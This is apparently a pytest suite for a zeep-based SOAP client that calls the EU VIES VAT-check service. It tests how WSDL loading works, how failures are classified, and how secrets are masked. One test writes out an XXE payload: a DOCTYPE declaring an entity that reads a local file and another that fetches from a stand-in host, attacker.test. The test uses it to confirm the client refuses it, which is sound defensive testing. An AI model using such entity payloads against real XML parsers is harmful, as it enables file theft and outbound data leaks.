"""SOAP through zeep: the EU VIES WSDL and replies as published, failure classes, safe XML."""

import datetime

import pytest
import requests
import zeep
from zeep.xsd.types import builtins as xsd_builtins

from logistics_adapters.errors import BusinessError, SecurityError, TransientError, error_kind
from logistics_adapters.transport.secrets import MASK
from logistics_adapters.transport.soap import PolicyTransport, SoapClient, call, soap_client

from .helpers import SAMPLES

WSDL = SAMPLES / "eu_vies_checkVatService.wsdl"
VALID = SAMPLES / "eu_vies_checkVat_response_valid.xml"
FAULT = SAMPLES / "eu_vies_checkVat_fault_invalid_input.xml"
ENDPOINT = "http://ec.europa.eu/taxation_customs/vies/services/checkVatService"
TIMEOUT = (3.0, 12.0)
SECRET = "vies-account-secret-4242"


def _sample(path):
    if not path.exists():
        pytest.skip(f"shared sample {path.name} not found in {SAMPLES.resolve()}")
    return path


@pytest.fixture
def client():
    return soap_client(str(_sample(WSDL)), timeout=TIMEOUT, secrets_to_mask=[SECRET])


def _reply(mocked, path=None, *, body=None, status=200, headers=None):
    content = body if body is not None else _sample(path).read_bytes()
    mocked.add(
        "POST",
        ENDPOINT,
        body=content,
        status=status,
        headers=headers,
        content_type="text/xml; charset=utf-8",
    )


def _fault_with(text):
    return _sample(FAULT).read_text().replace("INVALID_INPUT", text).encode()


# --- loading -----------------------------------------------------------------------------


def test_vies_wsdl_loads_offline_with_safe_settings(client):
    assert isinstance(client, zeep.Client)
    assert isinstance(client, SoapClient)
    assert sorted(name for name, _operation in client.service) == ["checkVat", "checkVatApprox"]
    assert isinstance(client.transport, PolicyTransport)
    assert client.transport.load_timeout == TIMEOUT
    assert client.transport.operation_timeout == TIMEOUT
    settings = client.settings
    assert (settings.forbid_dtd, settings.forbid_entities, settings.forbid_external) == (
        True,
        True,
        True,
    )


def test_wsdl_with_an_external_entity_is_refused(tmp_path, mocked):
    source = _sample(WSDL).read_text(encoding="utf-8")
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text("TOP-SECRET-CONTENT")
    doctype = (
        "<!DOCTYPE wsdl:definitions [\n"
        f'  <!ENTITY leak SYSTEM "file://{secret_file}">\n'
        '  <!ENTITY remote SYSTEM "http://attacker.test/x.dtd">\n'
        "]>\n"
    )
    hostile = source.replace("?>", "?>\n" + doctype, 1)
    hostile = hostile.replace("<xsd:documentation>", "<xsd:documentation>&leak;&remote;", 1)
    path = tmp_path / "hostile.wsdl"
    path.write_text(hostile, encoding="utf-8")
    with pytest.raises(SecurityError, match="refused: it declares a DTD") as info:
        soap_client(str(path), timeout=TIMEOUT)
    assert "TOP-SECRET-CONTENT" not in str(info.value)
    assert len(mocked.calls) == 0  # nothing was fetched for the entity
    assert error_kind(info.value) == "security"


def test_missing_or_broken_wsdl_is_a_business_error(tmp_path):
    with pytest.raises(BusinessError, match=r"cannot load WSDL .*missing\.wsdl"):
        soap_client(str(tmp_path / "missing.wsdl"), timeout=TIMEOUT)
    broken = tmp_path / "broken.wsdl"
    broken.write_text("<definitions><unclosed></definitions>")
    with pytest.raises(BusinessError, match="cannot load WSDL"):
        soap_client(str(broken), timeout=TIMEOUT)


def test_remote_wsdl_is_cached_and_fetched_with_the_timeout(mocked):
    url = "https://partner.test/cached/checkVat?wsdl"
    mocked.add("GET", url, body=_sample(WSDL).read_bytes(), content_type="text/xml")
    soap_client(url, timeout=TIMEOUT)
    soap_client(url, timeout=TIMEOUT)
    assert len(mocked.calls) == 1
    assert mocked.calls[0].request.req_kwargs["timeout"] == TIMEOUT
    soap_client(url, timeout=TIMEOUT, cache=False)
    assert len(mocked.calls) == 2


@pytest.mark.parametrize(("status", "error"), [(503, TransientError), (404, BusinessError)])
def test_remote_wsdl_download_failures_are_classified(mocked, status, error):
    url = f"https://partner.test/down{status}?wsdl&key={SECRET}"
    mocked.add("GET", url, status=status)
    with pytest.raises(error, match=f"HTTP {status}") as info:
        soap_client(url, timeout=TIMEOUT, cache=False)
    assert SECRET not in str(info.value)


def test_remote_wsdl_timeout_is_transient(mocked):
    url = "https://partner.test/slow?wsdl"
    mocked.add("GET", url, body=requests.exceptions.ConnectTimeout("connect timed out"))
    with pytest.raises(TransientError, match="timed out"):
        soap_client(url, timeout=TIMEOUT, cache=False)


# --- calls -------------------------------------------------------------------------------


def test_check_vat_returns_the_published_reply(mocked, client):
    _reply(mocked, VALID)
    result = call(client, "checkVat", countryCode="GB", vatNumber="333289454")
    assert result.countryCode == "GB"
    assert result.vatNumber == "333289454"
    assert result.valid is True
    assert result.requestDate == datetime.date(2016, 1, 16)
    assert result.name == "BRITISH BROADCASTING CORPORATION"
    assert result.address.splitlines()[-1] == "W12 7TP"
    sent = mocked.calls[0].request
    assert b"<ns0:vatNumber>333289454</ns0:vatNumber>" in sent.body
    assert sent.req_kwargs["timeout"] == TIMEOUT


@pytest.mark.parametrize("value", ["2016-01-16+01:00", "2016-01-16Z", "2016-01-16"])
def test_dates_with_a_zone_are_read_on_every_zeep_version(client, value):
    # zeep 4.2.1 (Odoo 19.0's pin) with isodate >= 0.7 returned None for the first two.
    date_type = xsd_builtins.Date()
    assert date_type.pythonvalue(value) == datetime.date(2016, 1, 16)
    with pytest.raises(ValueError):
        date_type.pythonvalue("2016-13-45+01:00")


def test_fault_becomes_business_error_naming_it(mocked, client):
    _reply(mocked, FAULT, status=500)
    with pytest.raises(BusinessError) as info:
        call(client, "checkVat", countryCode="XX", vatNumber="1")
    error = info.value
    assert "INVALID_INPUT" in str(error)
    assert str(error) == "SOAP checkVat: SOAP fault env:Server: INVALID_INPUT"
    assert (error.faultcode, error.faultstring) == ("env:Server", "INVALID_INPUT")
    assert not isinstance(error, TransientError)
    assert error.response.status == 500
    assert error.request_record.startswith(f"POST {ENDPOINT}")


@pytest.mark.parametrize("listed", ["MS_UNAVAILABLE", "Server", "env:Server"])
def test_faults_listed_as_transient_are_transient(mocked, client, listed):
    _reply(mocked, body=_fault_with("MS_UNAVAILABLE"), status=500)
    with pytest.raises(TransientError, match="MS_UNAVAILABLE"):
        call(client, "checkVat", countryCode="DE", vatNumber="1", transient_faults=(listed,))


def test_unlisted_fault_stays_business_even_with_a_transient_list(mocked, client):
    _reply(mocked, FAULT, status=500)
    with pytest.raises(BusinessError, match="INVALID_INPUT"):
        call(client, "checkVat", countryCode="XX", vatNumber="1", transient_faults=("TIMEOUT",))


@pytest.mark.parametrize("body", [b"", b"<html>Service Unavailable</html>"])
def test_503_is_transient_with_retry_after(mocked, client, body):
    _reply(mocked, body=body, status=503, headers={"Retry-After": "30"})
    with pytest.raises(TransientError, match="HTTP 503") as info:
        call(client, "checkVat", countryCode="GB", vatNumber="1")
    assert info.value.retry_after == 30
    assert info.value.response.status == 503
    assert len(mocked.calls) == 1  # no retry inside


def test_503_with_a_fault_body_is_still_transient(mocked, client):
    _reply(mocked, FAULT, status=503)
    with pytest.raises(TransientError):
        call(client, "checkVat", countryCode="GB", vatNumber="1")


def test_500_without_a_fault_is_transient_and_404_business(mocked, client):
    _reply(mocked, body=b"<html>oops</html>", status=500)
    with pytest.raises(TransientError, match="HTTP 500 without a SOAP fault: <html>oops"):
        call(client, "checkVat", countryCode="GB", vatNumber="1")
    mocked.replace("POST", ENDPOINT, body=b"<html><p>oops</html>", status=500)  # not XML
    with pytest.raises(TransientError, match="HTTP 500"):
        call(client, "checkVat", countryCode="GB", vatNumber="1")
    mocked.replace("POST", ENDPOINT, body=b"<html>no such service</html>", status=404)
    with pytest.raises(BusinessError, match="HTTP 404"):
        call(client, "checkVat", countryCode="GB", vatNumber="1")


@pytest.mark.parametrize(
    "exc",
    [
        requests.exceptions.ReadTimeout("read timed out"),
        requests.exceptions.ConnectTimeout("connect timed out"),
        requests.exceptions.ConnectionError("connection refused"),
    ],
)
def test_timeouts_and_connection_errors_are_transient(mocked, client, exc):
    def callback(request):
        raise exc

    mocked.add_callback("POST", ENDPOINT, callback=callback)
    with pytest.raises(TransientError) as info:
        call(client, "checkVat", countryCode="GB", vatNumber="1")
    assert str(exc) in str(info.value)
    assert info.value.response is None
    assert "<ns0:countryCode>GB</ns0:countryCode>" in info.value.request_record


def test_reply_declaring_an_entity_is_refused(mocked, client):
    body = (
        _sample(VALID)
        .read_text()
        .replace("<env:Envelope", '<!DOCTYPE x [<!ENTITY e "boom">]>\n<env:Envelope', 1)
    )
    _reply(mocked, body=body.encode())
    with pytest.raises(SecurityError, match="reply refused"):
        call(client, "checkVat", countryCode="GB", vatNumber="1")


def test_arguments_not_matching_the_wsdl_are_business_errors(client):
    with pytest.raises(BusinessError, match="arguments do not match the WSDL"):
        call(client, "checkVat", countryCode="GB")


def test_unknown_operation_lists_the_known_ones(client):
    with pytest.raises(BusinessError, match="known: checkVat, checkVatApprox"):
        call(client, "checkEori")


# --- masking -----------------------------------------------------------------------------


def test_secrets_are_masked_in_debug_records_and_fault_messages(mocked):
    lines = []
    client = soap_client(
        str(_sample(WSDL)),
        timeout=TIMEOUT,
        secrets_to_mask=[SECRET],
        debug_logger=lambda text, label: lines.append(text),
    )
    _reply(mocked, body=_fault_with(f"bad number {SECRET}"), status=500)
    with pytest.raises(BusinessError) as info:
        call(client, "checkVat", countryCode="GB", vatNumber=SECRET)
    assert len(lines) == 2
    assert f"bad number {MASK}" in str(info.value)
    for text in (*lines, str(info.value), info.value.faultstring, info.value.request_record):
        assert SECRET not in text
